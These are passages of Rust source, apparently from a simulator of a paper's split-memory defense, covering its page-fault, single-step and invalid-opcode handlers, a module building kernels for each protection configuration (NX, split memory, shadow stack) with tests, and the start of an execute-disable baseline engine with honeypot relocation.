    fn on_page_mapped(&mut self, sys: &mut System, pid: Pid, vaddr: u32) {
        // Paper §5.4: demand paging allocates two pages instead of one.
        let base = pte::page_base(vaddr);
        let mixed = page_is_mixed(sys, pid, base);
        let draw: f64 = sys.rng.gen_range(0.0..1.0);
        if self.config.policy.should_split(mixed, draw) {
            self.split_page(sys, pid, base);
        }
    }

    /// Algorithm 1. The paper's handler distinguishes the two TLB-miss
    /// kinds by comparing the faulting address (CR2) with the program
    /// counter; the simulator reports the access type directly, which is
    /// the same signal without the corner case of an instruction that
    /// *reads* its own address.
    fn on_protection_fault(
        &mut self,
        sys: &mut System,
        pid: Pid,
        pf: PageFaultInfo,
    ) -> FaultOutcome {
        let vpn = pte::vpn(pf.addr);
        let base = pte::page_base(pf.addr);
        let Some(sp) = self.tables.get(&pid.0).and_then(|t| t.get(vpn)) else {
            return FaultOutcome::Unhandled;
        };
        let entry = sys.pte_of(pid, base);
        if !pte::has(entry, pte::SPLIT) {
            return FaultOutcome::Unhandled;
        }
        if sys.machine.config.software_tlb {
            // The §4.7 port: on a software-loaded-TLB architecture the
            // handler simply fills the right TLB with the right frame —
            // "no complex data or instruction TLB loading techniques".
            let fill_cost = sys.machine.config.costs.soft_tlb_fill;
            match pf.access {
                Access::Write if !pte::has(entry, pte::WRITABLE) => {
                    return FaultOutcome::Unhandled;
                }
                Access::Fetch => {
                    sys.charge(fill_cost);
                    self.stats.code_reloads += 1;
                    let Ok(code) = self.code_frame(sys, pid, vpn) else {
                        // No frame for the code half: degrade the page and
                        // let the retry walk the now-unsplit PTE.
                        self.degrade_page(sys, pid, vpn, "materialising code frame");
                        return FaultOutcome::Handled;
                    };
                    sys.machine.fill_itlb(sm_machine::tlb::TlbEntry {
                        vpn,
                        pfn: code.0,
                        asid: 0, // fill() restamps with the active ASID
                        user: true,
                        writable: false,
                        nx: false,
                    });
                }
                Access::Read | Access::Write => {
                    sys.charge(fill_cost);
                    self.stats.data_reloads += 1;
                    sys.machine.fill_dtlb(sm_machine::tlb::TlbEntry {
                        vpn,
                        pfn: sp.data.0,
                        asid: 0, // fill() restamps with the active ASID
                        user: true,
                        writable: pte::has(entry, pte::WRITABLE),
                        nx: false,
                    });
                }
            }
            return FaultOutcome::Handled;
        }
        match pf.access {
            Access::Fetch => {
                let cost = sys.machine.config.costs.split_code_reload;
                sys.charge(cost);
                self.stats.code_reloads += 1;
                let Ok(code) = self.code_frame(sys, pid, vpn) else {
                    // No frame for the code half: degrade the page and let
                    // the retried fetch walk the now-unsplit PTE (where the
                    // execute-disable bit, if honoured, still blocks it).
                    self.degrade_page(sys, pid, vpn, "materialising code frame");
                    return FaultOutcome::Handled;
                };
                let reload = pte::with_frame(entry | pte::USER, code);
                sys.set_pte(pid, base, reload);
                sys.trace(sm_trace::mask::PTE, || {
                    sm_trace::TraceEvent::PteUnrestrict {
                        pid: pid.0,
                        vpn,
                        reload: sm_trace::ReloadKind::Code,
                    }
                });
                match self.config.itlb_load {
                    ItlbLoadMethod::SingleStep => {
                        // Unrestrict the PTE pointed at the code frame, arm
                        // single-step, restart the instruction (Algorithm 1
                        // lines 2–5). The debug handler re-restricts.
                        sys.machine.cpu.regs.set_flag(flags::TF, true);
                        sys.proc_mut(pid).pending_step_addr = Some(base);
                        sys.trace(sm_trace::mask::STEP, || sm_trace::TraceEvent::StepArm {
                            pid: pid.0,
                            vpn,
                        });
                    }
                    ItlbLoadMethod::PlantedRet => {
                        // Plant-and-call: executing a kernel-planted `ret`
                        // on the page fills the I-TLB with no second trap,
                        // then the PTE is restricted straight away — but the
                        // write to an executed page costs cache coherency.
                        let flush = sys.machine.config.costs.icache_flush;
                        sys.charge(flush);
                        let _ = sys.machine.translate(
                            pf.addr,
                            Access::Fetch,
                            sm_machine::cpu::Privilege::Kernel,
                        );
                        // Restrict and normalise the at-rest frame to the
                        // data half (as the debug handler does for the
                        // single-step loader) so kernel copies, COW and
                        // teardown see a consistent mapping.
                        sys.set_pte(pid, base, pte::with_frame(reload & !pte::USER, sp.data));
                        sys.trace(sm_trace::mask::PTE, || sm_trace::TraceEvent::PteRestrict {
                            pid: pid.0,
                            vpn,
                        });
                    }
                }
                FaultOutcome::Handled
            }
            Access::Write if !pte::has(entry, pte::WRITABLE) => {
                // A genuine permission error, not a TLB miss on a split
                // page: let the kernel deliver SIGSEGV.
                FaultOutcome::Unhandled
            }
            Access::Read | Access::Write => {
                // Data-TLB load via pagetable walk: unrestrict pointed at
                // the data frame, touch a byte (the hardware walker fills
                // the D-TLB with the momentarily-user rights), restrict
                // again (Algorithm 1 lines 7–11).
                let cost = sys.machine.config.costs.split_data_reload;
                sys.charge(cost);
                self.stats.data_reloads += 1;
                let reload = pte::with_frame(entry | pte::USER, sp.data);
                sys.set_pte(pid, base, reload);
                sys.trace(sm_trace::mask::PTE, || {
                    sm_trace::TraceEvent::PteUnrestrict {
                        pid: pid.0,
                        vpn,
                        reload: sm_trace::ReloadKind::Data,
                    }
                });
                let _ = sys.machine.kernel_read_u8(pf.addr);
                let filled = sys
                    .machine
                    .dtlb
                    .peek(vpn)
                    .is_some_and(|e| e.user && e.pfn == sp.data.0);
                // Restrict again; the D-TLB keeps the permissive snapshot.
                sys.set_pte(pid, base, reload & !pte::USER);
                sys.trace(sm_trace::mask::PTE, || sm_trace::TraceEvent::PteRestrict {
                    pid: pid.0,
                    vpn,
                });
                if !filled {
                    // "Occasionally, the pagetable walk does not
                    // successfully load the data-TLB. In this case, single
                    // stepping mode must be used." (paper §5.2 footnote 1)
                    self.stats.data_reload_fallbacks += 1;
                    sys.set_pte(pid, base, reload);
                    sys.trace(sm_trace::mask::PTE, || {
                        sm_trace::TraceEvent::PteUnrestrict {
                            pid: pid.0,
                            vpn,
                            reload: sm_trace::ReloadKind::Data,
                        }
                    });
                    sys.machine.cpu.regs.set_flag(flags::TF, true);
                    sys.proc_mut(pid).pending_step_addr = Some(base);
                    sys.trace(sm_trace::mask::STEP, || sm_trace::TraceEvent::StepArm {
                        pid: pid.0,
                        vpn,
                    });
                }
                FaultOutcome::Handled
            }
        }
    }

    /// Algorithm 2: the armed instruction has executed (filling the
    /// I-TLB); restrict the PTE and clear single-step.
    fn on_debug_trap(&mut self, sys: &mut System, pid: Pid) -> bool {
        let Some(base) = sys.proc_mut(pid).pending_step_addr.take() else {
            return false;
        };
        let cost = sys.machine.config.costs.debug_handler;
        sys.charge(cost);
        let vpn = pte::vpn(base);
        let eip = sys.machine.cpu.regs.eip;
        sys.trace(sm_trace::mask::STEP, || sm_trace::TraceEvent::StepFire {
            pid: pid.0,
            eip,
            vpn,
        });
        let entry = sys.pte_of(pid, base);
        let sp = self.tables.get(&pid.0).and_then(|t| t.get(vpn));
        // Restrict, and normalise the at-rest frame to the data half so
        // kernel copies (copy_to_user & friends) always reach data.
        let mut restored = entry & !pte::USER;
        if let Some(sp) = sp {
            restored = pte::with_frame(restored, sp.data);
            // Close the single-step window: the restarted instruction's own
            // data access may have filled the D-TLB from the *code* frame
            // while the PTE briefly pointed there. (The paper's prototype
            // shares this window; see DESIGN.md.)
            if sys
                .machine
                .dtlb
                .peek(vpn)
                .is_some_and(|e| sp.code.is_some_and(|c| e.pfn == c.0))
            {
                sys.machine.dtlb.drop_entry(vpn);
            }
        }
        sys.set_pte(pid, base, restored);
        sys.trace(sm_trace::mask::PTE, || sm_trace::TraceEvent::PteRestrict {
            pid: pid.0,
            vpn,
        });
        sys.machine.cpu.regs.set_flag(flags::TF, false);
        true
    }

    /// Algorithm 3: an instruction fetch landed on split-page filler — the
    /// attacker's injected code is *about to run* but has not. Detect and
    /// respond.
    fn on_invalid_opcode(&mut self, sys: &mut System, pid: Pid, eip: u32, opcode: u8) -> UdOutcome {
        let vpn = pte::vpn(eip);
        let Some(sp) = self.tables.get(&pid.0).and_then(|t| t.get(vpn)) else {
            return UdOutcome::Unhandled;
        };
        // Break mode only recognises the zero filler (the paper takes "no
        // action" there; a genuine bad opcode in real code should be a
        // plain SIGILL). Observe/forensics follow Algorithm 3 literally:
        // *any* invalid-instruction fault on a split page is treated as a
        // detection — on mixed pages the injected bytes land among the
        // loader's copy of the page, so the trapping byte is whatever the
        // original content held there (often 0x00), not our filler.
        if self.config.response == ResponseMode::Break && opcode != 0x00 {
            return UdOutcome::Unhandled;
        }
        // The single-step arming from the preceding I-TLB reload never
        // completed (the #UD pre-empted it): disarm, and restore the
        // at-rest PTE state (restricted, data frame) that the debug handler
        // would have established — execution may continue in this process
        // (observe mode, recovery handler) and its data must stay readable.
        let was_armed = sys.proc_mut(pid).pending_step_addr.take().is_some();
        if was_armed {
            sys.trace(sm_trace::mask::STEP, || sm_trace::TraceEvent::StepDisarm {
                pid: pid.0,
                vpn,
                cause: sm_trace::DisarmCause::Detection,
            });
        }
        sys.machine.cpu.regs.set_flag(flags::TF, false);
        let base = pte::page_base(eip);
        let entry = sys.pte_of(pid, base);
        sys.set_pte(pid, base, pte::with_frame(entry & !pte::USER, sp.data));
        sys.trace(sm_trace::mask::PTE, || sm_trace::TraceEvent::PteRestrict {
            pid: pid.0,
            vpn,
        });
        if sys
            .machine
            .dtlb
            .peek(vpn)
            .is_some_and(|e| sp.code.is_some_and(|c| e.pfn == c.0))
        {
            sys.machine.dtlb.drop_entry(vpn);
        }
        self.stats.detections += 1;
        let shellcode = self.dump_shellcode(sys, sp, eip);
        let mode = self.config.response;
        let trace_mode = match mode {
            ResponseMode::Break => sm_trace::ResponseKind::Break,
            ResponseMode::Observe => sm_trace::ResponseKind::Observe,
            ResponseMode::Forensics => sm_trace::ResponseKind::Forensics,
        };
        sys.trace(sm_trace::mask::DETECT, || sm_trace::TraceEvent::Detection {
            pid: pid.0,
            eip,
            mode: trace_mode,
        });
        sys.log(Event::AttackDetected {
            pid,
            eip,
            mode,
            shellcode: if mode == ResponseMode::Break {
                Vec::new()
            } else {
                shellcode
            },
        });
        match mode {
            ResponseMode::Break => UdOutcome::Terminate,
            ResponseMode::Observe => {
                // Log once, lock the page onto the data frame, continue —
                // "the attack is able to continue unhindered" (§4.5.2).
                self.lock_to_data(sys, pid, vpn);
                if self.config.honeypot_on_detect {
                    sys.proc_mut(pid).honeypot_log = true;
                }
                UdOutcome::Resume
            }
            ResponseMode::Forensics => {
                match self.config.forensic_shellcode.clone() {
                    Some(code) => {
                        // §6.1.3: copy forensic shellcode onto the (empty)
                        // code page being executed from and point EIP at
                        // the start of the page.
                        let n = code.len().min(PAGE_SIZE as usize);
                        let Ok(frame) = self.code_frame(sys, pid, vpn) else {
                            // Cannot materialise a frame to plant the
                            // forensic payload on: fall back to terminating
                            // the compromised process.
                            return UdOutcome::Terminate;
                        };
                        sys.machine.phys.write(frame.base(), &code[..n]);
                        if let Some(t) = self.tables.get_mut(&pid.0) {
                            t.set_filler(vpn, false);
                        }
                        sys.machine.cpu.regs.eip = pte::page_base(eip);
                        // The I-TLB already maps the code frame; execution
                        // resumes directly in the forensic payload.
                        UdOutcome::Resume
                    }
                    None => UdOutcome::Terminate,
                }
            }
        }
    }

    fn on_cow_copied(&mut self, sys: &mut System, pid: Pid, vaddr: u32, new_frame: Frame) {
        let vpn = pte::vpn(vaddr);
        let Some(sp) = self.tables.get(&pid.0).and_then(|t| t.get(vpn)) else {
            return;
        };
        if new_frame == sp.data {
            return; // refcount had dropped to one; nothing was copied
        }
        // The kernel duplicated the data half; duplicate the code half so
        // the processes stop sharing it too (paper §5.4's COW update).
        let new_code = match sp.code {
            None => None,
            Some(c) => match sys.alloc_copy(c) {
                Ok(copy) => {
                    sys.release_frame(c);
                    Some(copy)
                }
                Err(OutOfFrames) => {
                    // Cannot duplicate the code half: degrade this page in
                    // the writing process rather than panic. The kernel has
                    // already pointed the PTE at `new_frame`, so dropping
                    // the split (and this process's reference to the shared
                    // code half) leaves a consistent, unprotected page.
                    self.degrade_page(sys, pid, vpn, "cow code-half copy");
                    return;
                }
            },
        };
        if let Some(table) = self.tables.get_mut(&pid.0) {
            table.set_data_frame(vpn, new_frame);
            table.set_code_frame(vpn, new_code);
        }
        self.stats.cow_splits += 1;
    }

    fn on_fork(&mut self, sys: &mut System, parent: Pid, child: Pid) {
        let Some(table) = self.tables.get(&parent.0) else {
            return;
        };
        let cloned = table.clone();
        for (_, sp) in cloned.iter() {
            if let Some(c) = sp.code {
                sys.frames.share(&mut sys.machine, c);
            }
        }
        self.tables.insert(child.0, cloned);
    }

    fn on_unmap(&mut self, sys: &mut System, pid: Pid, start: u32, end: u32) {
        self.release_range(sys, pid, Some((start, end)));
    }

    fn on_teardown(&mut self, sys: &mut System, pid: Pid) {
        self.release_range(sys, pid, None);
    }

    fn verify_library(
        &mut self,
        _sys: &mut System,
        _pid: Pid,
        image: &ExecImage,
    ) -> Result<(), String> {
        match &self.config.verifier {
            Some(v) => v.verify(image).map_err(|e| e.to_string()),
            None => Ok(()),
        }
    }

    /// Kernel-emitted code (the signal trampoline) must be visible to
    /// *fetches*, i.e. land on the code frames too — the legitimate-kernel
    /// counterpart of the mixed-page support (§5.5).
    fn write_user_code(
        &mut self,
        sys: &mut System,
        pid: Pid,
        vaddr: u32,
        bytes: &[u8],
    ) -> Result<(), PageFaultInfo> {
        // Data halves (and unsplit pages) via the normal kernel copy path.
        sys.machine.copy_to_user(vaddr, bytes)?;
        // Mirror onto the code halves of any split pages touched
        // (materialising lazy code halves: the trampoline must be
        // fetchable).
        for (i, b) in bytes.iter().enumerate() {
            let a = vaddr.wrapping_add(i as u32);
            let vpn = pte::vpn(a);
            if self
                .tables
                .get(&pid.0)
                .is_some_and(|t| t.get(vpn).is_some())
            {
                match self.code_frame(sys, pid, vpn) {
                    Ok(code) => {
                        sys.machine
                            .phys
                            .write_u8(code.base() + pte::page_offset(a), *b);
                        if let Some(t) = self.tables.get_mut(&pid.0) {
                            t.set_filler(vpn, false);
                        }
                    }
                    Err(_) => {
                        // Cannot mirror onto a code half: degrade the page.
                        // The copy above already reached the data frame,
                        // which is now the page's only frame, so the
                        // trampoline stays fetchable.
                        self.degrade_page(sys, pid, vpn, "mirroring kernel code");
                    }
                }
            }
        }
        Ok(())
    }

    /// Split tables (sorted by pid, then vpn — canonical bytes) plus the
    /// engine counters. Config is *not* serialized: the restoring side
    /// constructs the engine with the same configuration it booted with.
    fn snapshot_state(&self) -> Vec<u8> {
        let mut w = Writer::new();
        // BTreeMap iteration is already pid-sorted; the encoding is
        // byte-identical to the old sort-a-key-vector walk.
        w.u64(self.tables.len() as u64);
        for (&pid, table) in &self.tables {
            w.u32(pid);
            w.u64(table.len() as u64);
            for (vpn, sp) in table.iter() {
                w.u32(vpn);
                w.opt_u32(sp.code.map(|f| f.0));
                w.u32(sp.data.0);
                w.bool(sp.filler);
            }
        }
        for v in [
            self.stats.pages_split,
            self.stats.data_reloads,
            self.stats.code_reloads,
            self.stats.data_reload_fallbacks,
            self.stats.detections,
            self.stats.pages_locked,
            self.stats.cow_splits,
            self.stats.lazy_materializations,
            self.stats.oom_degraded,
        ] {
            w.u64(v);
        }
        w.into_bytes()
    }

    fn restore_state(&mut self, bytes: &[u8]) -> Result<(), String> {
        let s = |e: sm_machine::snapshot::SnapshotError| e.to_string();
        let mut r = Reader::new(bytes);
        let ntables = r.count(1 << 16).map_err(s)?;
        let mut tables = BTreeMap::new();
        for _ in 0..ntables {
            let pid = r.u32().map_err(s)?;
            let npages = r.count(1 << 20).map_err(s)?;
            let mut table = SplitTable::new();
            for _ in 0..npages {
                let vpn = r.u32().map_err(s)?;
                let code = r.opt_u32().map_err(s)?.map(Frame);
                let data = Frame(r.u32().map_err(s)?);
                let filler = r.bool().map_err(s)?;
                table.insert(vpn, SplitPages { code, data, filler });
            }
            if tables.insert(pid, table).is_some() {
                return Err("duplicate split table pid".into());
            }
        }
        let stats = SplitStats {
            pages_split: r.u64().map_err(s)?,
            data_reloads: r.u64().map_err(s)?,
            code_reloads: r.u64().map_err(s)?,
            data_reload_fallbacks: r.u64().map_err(s)?,
            detections: r.u64().map_err(s)?,
            pages_locked: r.u64().map_err(s)?,
            cow_splits: r.u64().map_err(s)?,
            lazy_materializations: r.u64().map_err(s)?,
            oom_degraded: r.u64().map_err(s)?,
        };
        if !r.is_done() {
            return Err("trailing bytes in split-memory engine state".into());
        }
        self.tables = tables;
        self.stats = stats;
        Ok(())
    }
}
