//! Convenience constructors: protection configurations → engines/kernels.
//!
//! Both the attack corpus and the performance workloads need to run the
//! same guest under every protection configuration the paper evaluates;
//! this module is the single place that maps a [`Protection`] to a machine
//! config (execute-disable bit on or off) and an engine.

use crate::combined::CombinedEngine;
use crate::engine::{SplitMemConfig, SplitMemEngine};
use crate::nx::NxEngine;
use crate::shadow::{ShadowCombinedEngine, ShadowStackEngine};
use crate::split::SplitPolicy;
use sm_kernel::engine::{NullEngine, ProtectionEngine};
use sm_kernel::events::ResponseMode;
use sm_kernel::kernel::{Kernel, KernelConfig};
use sm_machine::{MachineConfig, TlbPreset};

/// Protection configuration under test.
#[derive(Debug, Clone)]
pub enum Protection {
    /// No protection (the paper's "unpatched kernel").
    Unprotected,
    /// Stand-alone split memory with the given response mode (the paper's
    /// worst-case, legacy-hardware configuration).
    SplitMem(ResponseMode),
    /// Stand-alone split memory with a full custom config.
    SplitMemCustom(SplitMemConfig),
    /// Hardware execute-disable bit only (DEP/PAGEEXEC baseline).
    Nx,
    /// Execute-disable with an explicit response mode: observe/forensics
    /// select the DCR-style honeypot relocation instead of the SIGSEGV
    /// crash (the response a code-page-read fingerprint can unmask).
    NxResponse(ResponseMode),
    /// Split memory for mixed pages + NX for the rest (combined mode).
    Combined(ResponseMode),
    /// Combined with a random split fraction (the Fig. 9 sweep).
    CombinedFraction(f64),
    /// Shadow-stack/coarse-CFI engine alone: catches code-*reuse*
    /// (ret2libc/ROP) but not injection.
    ShadowStack(ResponseMode),
    /// The full defense-in-depth stack: shadow-stack/CFI over combined
    /// split-memory + execute-disable.
    ShadowCombined(ResponseMode),
}

impl Protection {
    /// Short label for tables.
    pub fn label(&self) -> String {
        match self {
            Protection::Unprotected => "unprotected".into(),
            Protection::SplitMem(m) => format!("split({m})"),
            Protection::SplitMemCustom(_) => "split(custom)".into(),
            Protection::Nx => "nx".into(),
            Protection::NxResponse(m) => format!("nx({m})"),
            Protection::Combined(m) => format!("nx+split({m})"),
            Protection::CombinedFraction(f) => format!("nx+split({:.0}%)", f * 100.0),
            Protection::ShadowStack(m) => format!("shadow({m})"),
            Protection::ShadowCombined(m) => format!("shadow+nx+split({m})"),
        }
    }

    /// Whether this configuration needs execute-disable hardware.
    pub fn needs_nx(&self) -> bool {
        matches!(
            self,
            Protection::Nx
                | Protection::NxResponse(_)
                | Protection::Combined(_)
                | Protection::CombinedFraction(_)
                | Protection::ShadowCombined(_)
        )
    }

    /// Build the engine for this configuration.
    pub fn engine(&self) -> Box<dyn ProtectionEngine> {
        match self {
            Protection::Unprotected => Box::new(NullEngine),
            Protection::SplitMem(mode) => Box::new(SplitMemEngine::stand_alone(*mode)),
            Protection::SplitMemCustom(cfg) => Box::new(SplitMemEngine::new(cfg.clone())),
            Protection::Nx => Box::new(NxEngine::new()),
            Protection::NxResponse(mode) => Box::new(NxEngine::with_response(*mode)),
            Protection::Combined(mode) => Box::new(CombinedEngine::new(*mode)),
            Protection::ShadowStack(mode) => Box::new(ShadowStackEngine::new(*mode)),
            Protection::ShadowCombined(mode) => Box::new(ShadowCombinedEngine::new(*mode)),
            Protection::CombinedFraction(f) => {
                Box::new(CombinedEngine::with_config(SplitMemConfig {
                    policy: SplitPolicy::Fraction(*f),
                    ..SplitMemConfig::default()
                }))
            }
        }
    }

    /// Machine configuration for this protection (NX bit enabled only
    /// where needed, mirroring legacy vs. recent hardware), on the default
    /// TLB geometry.
    pub fn machine_config(&self) -> MachineConfig {
        self.machine_config_on(TlbPreset::default())
    }

    /// Machine configuration for this protection on an explicit TLB
    /// geometry (e.g. [`TlbPreset::pentium3`] for the paper's testbed).
    pub fn machine_config_on(&self, tlb: TlbPreset) -> MachineConfig {
        MachineConfig {
            nx_enabled: self.needs_nx(),
            tlb,
            ..MachineConfig::default()
        }
    }

    /// Build a ready kernel for this configuration.
    pub fn kernel(&self, kconfig: KernelConfig) -> Kernel {
        self.kernel_on(TlbPreset::default(), kconfig)
    }

    /// Build a ready kernel for this configuration on an explicit TLB
    /// geometry.
    pub fn kernel_on(&self, tlb: TlbPreset, kconfig: KernelConfig) -> Kernel {
        Kernel::new(self.machine_config_on(tlb), kconfig, self.engine())
    }

    /// Like [`Protection::kernel_on`], but warm-started: the first call for
    /// a given `(protection, tlb, kconfig)` boots a kernel cold and caches
    /// its post-boot snapshot; later calls fork a fresh kernel from that
    /// snapshot instead of re-booting. Sweep drivers running dozens of
    /// combos over the same configuration share one boot this way — and
    /// because the snapshot round-trip is exact, warm and cold kernels are
    /// byte-identical (a property the snapshot test-suite pins).
    ///
    /// Falls back to a cold boot if the cached snapshot fails to restore
    /// (it cannot in-process, but degradation beats a panic).
    pub fn kernel_warm_on(&self, tlb: TlbPreset, kconfig: KernelConfig) -> Kernel {
        use std::collections::HashMap;
        use std::sync::{Mutex, OnceLock};
        static CACHE: OnceLock<Mutex<HashMap<String, Vec<u8>>>> = OnceLock::new();
        let key = warm_cache_key(self, &tlb, &kconfig);
        let cache = CACHE.get_or_init(|| Mutex::new(HashMap::new()));
        let hit = cache.lock().unwrap().get(&key).cloned();
        if let Some(bytes) = hit {
            if let Ok(k) = sm_kernel::snapshot::restore(&bytes, self.engine()) {
                return k;
            }
        }
        let k = self.kernel_on(tlb, kconfig);
        cache
            .lock()
            .unwrap()
            .insert(key, sm_kernel::snapshot::save(&k));
        k
    }
}

/// Warm-start cache key for [`Protection::kernel_warm_on`].
///
/// The key used to be the derived `Debug` formatting of the whole triple.
/// An audit (after the trace `trace_capacity`/`trace_pid` knobs landed)
/// found that formatting *did* still cover every field — derived `Debug`
/// tracks the struct — so no stale-snapshot bug was live; but nothing
/// *guaranteed* it: a future field whose `Debug` impl collapses distinct
/// values (or a hand-written impl that omits one) would silently alias
/// cache entries and hand sweeps a kernel booted under a different
/// configuration. Every field is therefore enumerated by hand through
/// exhaustive destructuring, so adding a `KernelConfig` knob fails to
/// compile here until the key includes it.
fn warm_cache_key(p: &Protection, tlb: &TlbPreset, kconfig: &KernelConfig) -> String {
    let KernelConfig {
        quantum_cycles,
        stack_size,
        stack_top,
        aslr_stack,
        seed,
        heap_limit,
        pipe_capacity,
        chaos,
        asid_tlbs,
        livelock_threshold,
        trace,
        trace_capacity,
        trace_pid,
        pipeline,
    } = kconfig;
    format!(
        "{p:?}|{tlb:?}|{quantum_cycles}|{stack_size}|{stack_top}|{aslr_stack}|{seed}\
         |{heap_limit}|{pipe_capacity}|{chaos:?}|{asid_tlbs}|{livelock_threshold}\
         |{trace}|{trace_capacity}|{trace_pid:?}|{pipeline}"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn labels_are_distinct() {
        let ps = [
            Protection::Unprotected,
            Protection::SplitMem(ResponseMode::Break),
            Protection::Nx,
            Protection::NxResponse(ResponseMode::Observe),
            Protection::Combined(ResponseMode::Break),
            Protection::CombinedFraction(0.25),
            Protection::ShadowStack(ResponseMode::Break),
            Protection::ShadowCombined(ResponseMode::Break),
        ];
        let labels: std::collections::HashSet<String> = ps.iter().map(Protection::label).collect();
        assert_eq!(labels.len(), ps.len());
    }

    #[test]
    fn nx_configs_enable_the_bit() {
        assert!(Protection::Nx.machine_config().nx_enabled);
        assert!(
            Protection::Combined(ResponseMode::Break)
                .machine_config()
                .nx_enabled
        );
        assert!(
            !Protection::SplitMem(ResponseMode::Break)
                .machine_config()
                .nx_enabled
        );
    }

    #[test]
    fn tlb_preset_reaches_the_machine() {
        let k = Protection::SplitMem(ResponseMode::Break)
            .kernel_on(TlbPreset::pentium3(), KernelConfig::default());
        assert_eq!(k.sys.machine.itlb.geometry().sets, 8);
        assert_eq!(k.sys.machine.itlb.capacity(), 32);
        assert_eq!(k.sys.machine.dtlb.geometry().sets, 16);
        assert_eq!(k.sys.machine.dtlb.capacity(), 64);
        // The default path keeps the backward-compatible shape.
        let k = Protection::Unprotected.kernel(KernelConfig::default());
        assert_eq!(k.sys.machine.dtlb.geometry().sets, 1);
        assert_eq!(k.sys.machine.dtlb.capacity(), 64);
    }

    #[test]
    fn kernel_builds_for_every_config() {
        for p in [
            Protection::Unprotected,
            Protection::SplitMem(ResponseMode::Observe),
            Protection::Nx,
            Protection::NxResponse(ResponseMode::Observe),
            Protection::CombinedFraction(0.1),
            Protection::ShadowStack(ResponseMode::Break),
            Protection::ShadowCombined(ResponseMode::Observe),
        ] {
            let k = p.kernel(KernelConfig::default());
            assert_eq!(k.sys.machine.config.nx_enabled, p.needs_nx());
        }
    }

    #[test]
    fn cfi_events_armed_only_for_shadow_engines() {
        for (p, want) in [
            (Protection::Unprotected, false),
            (Protection::SplitMem(ResponseMode::Break), false),
            (Protection::Nx, false),
            (Protection::Combined(ResponseMode::Break), false),
            (Protection::ShadowStack(ResponseMode::Break), true),
            (Protection::ShadowCombined(ResponseMode::Break), true),
        ] {
            let k = p.kernel(KernelConfig::default());
            assert_eq!(k.sys.machine.config.cfi_events, want, "{}", p.label());
        }
    }
}
