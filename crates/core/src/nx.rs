//! Execute-disable (NX) baseline engine.
//!
//! Models the hardware-assisted page-level protection the paper compares
//! against (Intel execute-disable / AMD NX, DEP, PaX PAGEEXEC — §2): every
//! page that holds no code is marked non-executable, code pages stay
//! read-only through their VMA permissions. Two documented limitations are
//! reproduced faithfully because they motivate split memory:
//!
//! 1. **Mixed pages cannot be protected** — a page that holds both code and
//!    data must stay executable, so injection into it is not caught.
//! 2. **Signal trampolines need executable stacks** — the kernel clears NX
//!    on pages it writes trampolines to (exactly why historic Linux kept
//!    stacks executable).

use crate::split::page_is_executable;
use sm_kernel::engine::{FaultOutcome, ProtectionEngine};
use sm_kernel::events::{Event, ResponseMode};
use sm_kernel::image::{SEG_R, SEG_X};
use sm_kernel::kernel::System;
use sm_kernel::process::Pid;
use sm_kernel::vma::{Vma, VmaKind};
use sm_machine::cpu::{Access, PageFaultInfo};
use sm_machine::pte::{self, PAGE_SIZE};

/// Where observe-mode honeypot copies are mapped: above the mmap region
/// (0x4000_0000, growing up), far below the stack (growing down from
/// 0xC000_0000), so a decoy never collides with a real mapping.
const HONEYPOT_BASE: u32 = 0xA000_0000;

/// Counters for the NX engine.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct NxStats {
    /// Pages marked non-executable.
    pub pages_marked: u64,
    /// Blocked instruction fetches (attack detections).
    pub detections: u64,
    /// Pages whose NX was cleared for a kernel-written trampoline.
    pub trampoline_exemptions: u64,
    /// Decoy pages installed by observe-mode honeypot relocations.
    pub honeypot_pages: u64,
}

/// The execute-disable baseline.
#[derive(Debug)]
pub struct NxEngine {
    /// Event counters.
    pub stats: NxStats,
    /// Response policy. [`ResponseMode::Break`] is DEP: the blocked fetch
    /// becomes SIGSEGV. Observe/forensics model the DCR-style honeypot:
    /// the payload is *relocated* to a decoy mapping and allowed to run —
    /// which is exactly the response a code-page-read fingerprint can
    /// unmask, because the decoy lives at a different address. Split
    /// memory's observe mode heals the page *in place* instead, so the
    /// same fingerprint learns nothing there.
    response: ResponseMode,
}

impl Default for NxEngine {
    fn default() -> NxEngine {
        NxEngine::new()
    }
}

impl NxEngine {
    /// Create the engine with the DEP-style break response. The machine
    /// must have been configured with `nx_enabled = true`; this is checked
    /// (with a panic) at first use, since silently running without the bit
    /// would report false security.
    pub fn new() -> NxEngine {
        NxEngine::with_response(ResponseMode::Break)
    }

    /// Create the engine with an explicit response policy (observe and
    /// forensics select the honeypot relocation).
    pub fn with_response(response: ResponseMode) -> NxEngine {
        NxEngine {
            stats: NxStats::default(),
            response,
        }
    }

    fn assert_hw(sys: &System) {
        assert!(
            sys.machine.config.nx_enabled,
            "NxEngine requires MachineConfig::nx_enabled (legacy x86 has no execute-disable bit)"
        );
    }

    /// Mark every present, non-executable page in `[start, end)` NX,
    /// skipping pages for which `skip` returns true (the combined engine
    /// skips split pages).
    pub fn mark_range(
        &mut self,
        sys: &mut System,
        pid: Pid,
        start: u32,
        end: u32,
        skip: impl Fn(u32) -> bool,
    ) {
        Self::assert_hw(sys);
        let mut addr = pte::page_base(start);
        while addr < end {
            let vpn = pte::vpn(addr);
            if !skip(vpn) && !page_is_executable(sys, pid, addr) {
                let entry = sys.pte_of(pid, addr);
                if pte::has(entry, pte::PRESENT) && !pte::has(entry, pte::NX) {
                    sys.set_pte(pid, addr, entry | pte::NX);
                    sys.machine.invlpg(addr);
                    self.stats.pages_marked += 1;
                }
            }
            match addr.checked_add(PAGE_SIZE) {
                Some(next) => addr = next,
                None => break,
            }
        }
    }

    /// Record a blocked fetch; shared with the combined engine.
    pub fn detect(&mut self, sys: &mut System, pid: Pid, pf: PageFaultInfo) -> FaultOutcome {
        if pf.access != Access::Fetch {
            return FaultOutcome::Unhandled;
        }
        let entry = sys.pte_of(pid, pte::page_base(pf.addr));
        if !pte::has(entry, pte::NX) {
            return FaultOutcome::Unhandled;
        }
        self.stats.detections += 1;
        sys.log(Event::AttackDetected {
            pid,
            eip: pf.addr,
            mode: self.response,
            shellcode: Vec::new(),
        });
        if self.response == ResponseMode::Break {
            // Unhandled → the kernel delivers SIGSEGV, like DEP.
            return FaultOutcome::Unhandled;
        }
        // Observe/forensics: relocate the payload into a decoy mapping and
        // let it run there under watch.
        match self.relocate_to_honeypot(sys, pid, pf.addr) {
            Some(decoy_eip) => {
                sys.machine.cpu.regs.eip = decoy_eip;
                FaultOutcome::Handled
            }
            // Could not build the decoy (OOM): fall back to the crash.
            None => FaultOutcome::Unhandled,
        }
    }

